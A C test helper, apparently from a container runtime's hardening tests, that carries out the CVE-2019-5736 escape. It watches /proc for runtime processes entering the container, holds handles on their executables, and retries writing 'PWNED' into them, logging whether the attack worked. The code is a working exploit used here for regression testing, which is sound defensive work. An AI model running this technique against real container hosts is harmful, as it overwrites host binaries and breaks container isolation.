/* The CVE-2019-5736 attack on berth, run inside a container by tests/hardening.rs.
 *
 * Usage: proc_exe REPORT SECONDS
 *
 * Watches /proc for processes whose executable is neither this program nor busybox (a berth
 * process entering the container), keeps an O_PATH handle on each such executable, and keeps
 * trying to reopen every handle for writing (ETXTBSY while something still runs the file) and
 * to append to it, until SECONDS pass. Writes one line per event to REPORT:
 *   ready
 *   handle DEV INO          a handle on a foreign executable was taken
 *   denied ERRNO            /proc/PID/exe of a foreign process could not be opened
 *   wrote DEV INO           the executable was written: the attack worked
 *   refused DEV INO ERRNO   the last reopen for writing failed with ERRNO
 *   done
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HANDLES 64

struct handle {
    int fd;
    dev_t dev;
    ino_t ino;
    int written;
    int last_errno;
};

static struct handle handles[MAX_HANDLES];
static int nhandles;
static FILE *report;

static int same(const struct stat *a, dev_t dev, ino_t ino) {
    return a->st_dev == dev && a->st_ino == ino;
}

static void take(const char *pid, const struct stat *self, const struct stat *busybox) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        /* A process gone meanwhile, or one whose exe we may not open (said once per pid). */
        static char last_denied[32];
        if ((errno == EACCES || errno == EPERM) && strcmp(last_denied, pid) != 0) {
            snprintf(last_denied, sizeof last_denied, "%s", pid);
            fprintf(report, "denied %d\n", errno);
            fflush(report);
        }
        return;
    }
    struct stat st;
    if (fstat(fd, &st) != 0 || same(self, st.st_dev, st.st_ino) ||
        same(busybox, st.st_dev, st.st_ino)) {
        close(fd);
        return;
    }
    for (int i = 0; i < nhandles; i++) {
        if (handles[i].dev == st.st_dev && handles[i].ino == st.st_ino) {
            close(fd);
            return;
        }
    }
    if (nhandles == MAX_HANDLES) {
        close(fd);
        return;
    }
    handles[nhandles++] = (struct handle){fd, st.st_dev, st.st_ino, 0, 0};
    fprintf(report, "handle %llu %llu\n", (unsigned long long)st.st_dev,
            (unsigned long long)st.st_ino);
    fflush(report);
}

static void try_write(struct handle *h) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", h->fd);
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0) {
        h->last_errno = errno;
        return;
    }
    if (write(fd, "PWNED", 5) == 5) {
        h->written = 1;
        fprintf(report, "wrote %llu %llu\n", (unsigned long long)h->dev,
                (unsigned long long)h->ino);
        fflush(report);
    } else {
        h->last_errno = errno;
    }
    close(fd);
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: proc_exe REPORT SECONDS\n");
        return 2;
    }
    report = fopen(argv[1], "w");
    if (!report) {
        perror(argv[1]);
        return 1;
    }
    struct stat self, busybox;
    if (stat("/proc/self/exe", &self) != 0 || stat("/bin/busybox", &busybox) != 0) {
        perror("stat");
        return 1;
    }
    char me[16];
    snprintf(me, sizeof me, "%d", getpid());
    time_t end = time(NULL) + atoi(argv[2]);
    fprintf(report, "ready\n");
    fflush(report);
    while (time(NULL) < end) {
        DIR *proc = opendir("/proc");
        if (!proc)
            return 1;
        struct dirent *e;
        while ((e = readdir(proc))) {
            if (e->d_name[0] >= '0' && e->d_name[0] <= '9' && strcmp(e->d_name, me) != 0)
                take(e->d_name, &self, &busybox);
        }
        closedir(proc);
        for (int i = 0; i < nhandles; i++)
            if (!handles[i].written)
                try_write(&handles[i]);
    }
    for (int i = 0; i < nhandles; i++)
        if (!handles[i].written)
            fprintf(report, "refused %llu %llu %d\n", (unsigned long long)handles[i].dev,
                    (unsigned long long)handles[i].ino, handles[i].last_errno);
    fprintf(report, "done\n");
    fclose(report);
    return 0;
}
